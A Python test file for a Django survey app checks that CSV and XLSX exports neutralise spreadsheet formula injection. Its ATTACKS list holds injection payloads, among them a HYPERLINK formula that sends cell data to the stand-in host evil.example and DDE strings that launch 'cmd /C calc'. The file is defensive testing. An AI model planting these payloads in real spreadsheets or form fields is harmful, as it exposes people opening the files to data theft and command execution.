"""Formula injection: no exported CSV or XLSX cell that a person typed can run as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from governance.core.spreadsheets import safe_cell, safe_row
from governance.engagement import services
from tests.engagement.factories import answers, survey_with_questions

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_starts_a_formula_is_written_as_text(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-5", "+3.5", "2,5", "plain text", "a=b", 7, None, 1.5])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def _formula_cells(rows):
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell[:1] in "=+-@"]


@pytest.fixture
def attacked_survey(manager):
    survey = survey_with_questions(manager)
    for attack in ATTACKS:
        services.response_submit(
            survey=survey,
            person=None,
            answers=answers(survey, uses="yes", text=attack),
            group="patient",
            country="ES",
        )
    return survey


def test_survey_csv_export_neutralises_formulas(attacked_survey, manager_client):
    url = reverse("engagement:survey_export", args=[attacked_survey.pk, "csv"])
    body = b"".join(manager_client.get(url).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert _formula_cells(rows) == []
    assert any(cell == "'" + ATTACKS[0] for row in rows for cell in row)


def test_survey_xlsx_export_neutralises_formulas(attacked_survey, manager_client):
    url = reverse("engagement:survey_export", args=[attacked_survey.pk, "xlsx"])
    sheet = load_workbook(io.BytesIO(manager_client.get(url).content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert _formula_cells(rows) == []
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_free_text_answers_csv_neutralises_formulas(attacked_survey, manager_client):
    question = attacked_survey.questions.get(text="Comments?")
    url = reverse("engagement:survey_text_answers", args=[attacked_survey.pk, question.pk])
    body = manager_client.get(url + "?format=csv").content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert _formula_cells(rows) == []
    assert len(rows) == len(ATTACKS) + 1


def test_event_attendance_csv_neutralises_formulas(manager, manager_client):
    from tests.engagement.factories import event
    from tests.factories import UserFactory

    webinar = event()
    person = UserFactory(full_name='=HYPERLINK("http://evil.example")')
    services.event_register(event=webinar, person=person)
    url = reverse("engagement:event_attendance", args=[webinar.pk]) + "?format=csv"
    rows = list(csv.reader(io.StringIO(manager_client.get(url).content.decode())))
    assert _formula_cells(rows) == []
    assert rows[1][0] == "'" + person.full_name


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1+1", "ok", 3]) == ["'=1+1", "ok", 3]
